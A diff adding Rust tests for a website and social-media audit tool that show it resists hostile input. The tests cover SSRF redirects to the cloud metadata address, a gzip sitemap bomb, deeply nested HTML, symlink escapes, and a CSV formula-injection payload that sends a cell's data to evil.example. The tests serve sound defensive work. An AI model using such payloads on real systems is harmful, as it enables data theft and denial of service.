+fn redirects_are_checked_hop_by_hop_before_they_are_followed() {
+    let elsewhere = Routes::start("127.0.0.1:0", |_, _| html("<p>logramos</p>"));
+    let other = elsewhere.base.clone();
+    let site = Routes::start("127.0.0.1:0", move |path, base| match path {
+        "/robots.txt" => ("200 OK", vec![], b"User-agent: *\nDisallow: /privado/\n".to_vec()),
+        "/" => {
+            html("<title>Inicio</title><a href=\"/salta\">a</a> <a href=\"/a-privado\">b</a> <a href=\"/dentro\">c</a>")
+        }
+        // Off-site: to another port of this machine, and to the cloud metadata address.
+        "/salta" => redirect(&format!("{other}/secreto")),
+        "/metadatos" => redirect("http://169.254.169.254/latest/meta-data/"),
+        // Same site, but excluded by robots.txt.
+        "/a-privado" => redirect("/privado/borrador.html"),
+        "/dentro" => redirect(&format!("{base}/final")),
+        "/final" => html("<p>Inauguramos la oficina.</p><a href=\"/metadatos\">m</a>"),
+        _ => ("404 Not Found", vec![], Vec::new()),
+    });
+    let run = audit(&[&format!("{}/", site.base)], &[]);
+    let r = run.json();
+    assert!(elsewhere.asked().is_empty(), "an off-site redirect was followed: {:?}", elsewhere.asked());
+    assert!(!site.asked().iter().any(|p| p.starts_with("/privado/")), "{:?}", site.asked());
+    assert!(reason(&r["skipped"], "/salta").contains("fuera del sitio"));
+    assert!(reason(&r["skipped"], "/metadatos").contains("fuera del sitio"));
+    assert!(reason(&r["skipped"], "/a-privado").contains("robots.txt"));
+    // A same-site redirect is followed.
+    assert_has(&page(&r, "/final")["findings"], "achievements", None, "Inauguramos");
+}
+
+#[test]
+fn non_public_addresses_are_refused_unless_a_start_url_is_one() {
+    // 127.0.0.2 is loopback too, but no start URL points at it.
+    let inside = Routes::start("127.0.0.2:0", |_, _| html("<p>logramos</p>"));
+    let inner = inside.base.clone();
+    let site = Routes::start("127.0.0.1:0", move |path, base| {
+        match path {
+        "/sitemap.xml" => (
+            "200 OK",
+            vec![("Content-Type".into(), "application/xml".into())],
+            format!(
+                "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>{base}/ok.html</loc></url>\
+                 <url><loc>{inner}/interno.html</loc></url><url><loc>http://169.254.169.254/latest/meta-data/</loc></url>\
+                 <url><loc>http://[::1]:9/</loc></url></urlset>"
+            )
+            .into_bytes(),
+        ),
+        "/ok.html" => html("<p>Inauguramos la oficina.</p>"),
+        _ => ("404 Not Found", vec![], Vec::new()),
+    }
+    });
+    // A sitemap index file (the user's) names the site's sitemap: the site's address is allowed, the
+    // addresses its sitemap names are not.
+    let dir = Temp::new("ssrf");
+    let index = dir.write(
+        "indice.xml",
+        format!("<sitemapindex xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><sitemap><loc>{}/sitemap.xml</loc></sitemap></sitemapindex>", site.base),
+    );
+    let run = audit(&[index.to_str().unwrap()], &["--ignore-robots"]);
+    let r = run.json();
+    assert!(inside.asked().is_empty(), "a non-public address was fetched: {:?}", inside.asked());
+    assert!(reason(&r["skipped"], "/interno.html").contains("dirección no pública"), "{:#}", r["skipped"]);
+    assert!(reason(&r["skipped"], "169.254.169.254/latest/meta-data/").contains("dirección no pública"));
+    assert!(reason(&r["skipped"], "[::1]:9/").contains("dirección no pública"));
+    assert_has(&page(&r, "/ok.html")["findings"], "achievements", None, "Inauguramos");
+}
+
+#[test]
+fn a_gzip_sitemap_bomb_is_refused_while_decompressing() {
+    use flate2::write::GzEncoder;
+    // 60 MB of spaces inside a valid urlset: 60 KB compressed.
+    let mut gz = GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(b"<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">").unwrap();
+    let spaces = vec![b' '; 1 << 20];
+    for _ in 0..60 {
+        gz.write_all(&spaces).unwrap();
+    }
+    gz.write_all(b"</urlset>").unwrap();
+    let bomb = Arc::new(gz.finish().unwrap());
+    assert!(bomb.len() < 1 << 20);
+    let site = Routes::start("127.0.0.1:0", move |path, _| match path {
+        "/sitemap.xml.gz" => ("200 OK", vec![("Content-Type".into(), "application/gzip".into())], bomb.to_vec()),
+        _ => ("404 Not Found", vec![], Vec::new()),
+    });
+    let run = audit(&[&format!("{}/sitemap.xml.gz", site.base)], &["--ignore-robots"]);
+    let r = run.json();
+    let why = reason(&r["failed"], "/sitemap.xml.gz");
+    assert!(why.contains("more than 50 MB uncompressed"), "{why}");
+}
+
+#[test]
+fn a_deeply_nested_page_is_stopped_by_the_parse_budget() {
+    let dir = Temp::new("nested");
+    let depth = 120_000;
+    let mut page = String::from("<html><body>");
+    page.push_str(&"<div>".repeat(depth));
+    page.push_str("logramos");
+    page.push_str(&"</div>".repeat(depth));
+    dir.write("profundo.html", page);
+    dir.write("normal.html", "<title>Normal</title><p>Inauguramos la oficina.</p>");
+    let start = Instant::now();
+    let run = audit(&[&dir.path("")], &["--parse-timeout", "1"]);
+    let elapsed = start.elapsed();
+    let r = run.json();
+    assert!(reason(&r["failed"], "profundo.html").contains("tiempo de análisis"), "{:#}", r["failed"]);
+    assert_has(&page_of(&r, "normal.html")["findings"], "achievements", None, "Inauguramos");
+    assert!(elapsed < Duration::from_secs(20), "took {elapsed:?}");
+}
+
+fn page_of<'a>(r: &'a Value, end: &str) -> &'a Value {
+    page(r, end)
+}
+
+#[test]
+fn csv_cells_that_look_like_formulas_are_neutralized() {
+    let dir = Temp::new("csv");
+    dir.write(
+        "formula.html",
+        "<title>=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")</title><p>@SUM(1+1) logramos</p><p>-2+3 Inauguramos</p>",
+    );
+    let run = blindaje(&[
+        "audit",
+        "--policy",
+        fixtures().join("policy.json").to_str().unwrap(),
+        "--rules",
+        fixtures().join("rules.json").to_str().unwrap(),
+        "--date",
+        "2027-04-20",
+        "--format",
+        "csv",
+        &dir.path(""),
+    ]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert!(!rows.is_empty());
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "formula cell «{cell}» in {row:?}");
+        }
+    }
+    assert!(rows.iter().any(|r| &r[5] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")"), "{rows:?}");
+    assert!(rows.iter().any(|r| r[10].starts_with("'@SUM(1+1) ⟦logramos⟧")), "{rows:?}");
+}
+
+#[test]
+fn symlinks_out_of_the_audited_folder_are_skipped_and_listed() {
+    let outside = Temp::new("outside");
+    let secret = outside.write("secreto.html", "<title>Fuera</title><p>logramos</p>");
+    let dir = Temp::new("symlinks");
+    dir.write("index.html", "<title>Inicio</title><p>Horario de atención.</p>");
+    dir.write("dentro/real.html", "<title>Real</title><p>Inauguramos</p>");
+    std::os::unix::fs::symlink(&secret, dir.0.join("enlace.html")).unwrap();
+    std::os::unix::fs::symlink(dir.0.join("dentro/real.html"), dir.0.join("alias.html")).unwrap();
+    let run = audit(&[&dir.path("")], &[]);
+    let r = run.json();
+    assert!(reason(&r["skipped"], "enlace.html").contains("fuera de la carpeta"), "{:#}", r["skipped"]);
+    assert!(!urls(&r["pages"]).iter().any(|u| u.ends_with("enlace.html")));
+    // A link inside the folder is read.
+    assert!(urls(&r["pages"]).iter().any(|u| u.ends_with("alias.html")));
+}
+
+/// The pre-campaign audit README.md and ADMIN.md show: the saved portal (its pages and the PDF it keeps,
+/// written by LibreOffice from documentos/informe-brigadas-2027.fodt) and two accounts' archives
+/// (tests/fixtures/portal/redes), in one report.
+#[test]
+fn pre_campaign_audit_of_the_portal_and_two_accounts() {
+    let redes = fixtures().join("redes");
+    let (x, fb) = (redes.join("x-cedh"), redes.join("facebook-cedh"));
+    let run = audit(&[site_dir().to_str().unwrap(), x.to_str().unwrap(), fb.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let r = run.json();
+    assert_site_findings(&r);
+    let informe = document(&r, "documentos/informe-brigadas-2027.pdf");
+    assert_eq!(informe["title"], "Informe de brigadas de orientación 2027");
+    assert_eq!(informe["pageCount"], 2);
+    assert_has(&informe["findings"], "achievements", Some("text"), "gracias al apoyo del Gobernador");
+    assert_has(&informe["findings"], "personalized", Some("text"), "Ana Laura Pérez Gómez");
+    assert!(informe["findings"].as_array().unwrap().iter().all(|f| f["pdfPage"] == 1));
+    let links = r["pdfs"].as_array().unwrap();
+    let link = |end: &str| links.iter().find(|p| p["url"].as_str().unwrap().ends_with(end)).unwrap()["audited"].clone();
+    assert_eq!(link("informe-brigadas-2027.pdf"), true);
+    assert_eq!(link("informe-anual-2026.pdf"), false, "not in the saved copy: for manual review");
+    let accounts = r["accounts"].as_array().unwrap();
+    let x = accounts.iter().find(|a| a["platform"] == "x").unwrap();
+    assert_eq!((x["account"].as_str().unwrap(), x["posts"].as_u64().unwrap()), ("@CEDH_Estado", 5));
+    assert_eq!(x["postsWithWarnings"], 3);
+    let fb = accounts.iter().find(|a| a["platform"] == "facebook").unwrap();
+    assert_eq!(fb["account"], "Comisión Estatal de Derechos Humanos");
+    assert_eq!((fb["posts"].as_u64().unwrap(), fb["withoutText"].as_u64().unwrap()), (3, 1));
+    assert!(fb["flagged"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|p| p["url"] == "https://www.facebook.com/CEDHEstado/posts/pfbid02xYz1"));
+    assert_eq!(r["summary"]["accounts"], 2);
+    assert_eq!(r["summary"]["documents"], 1);
 }
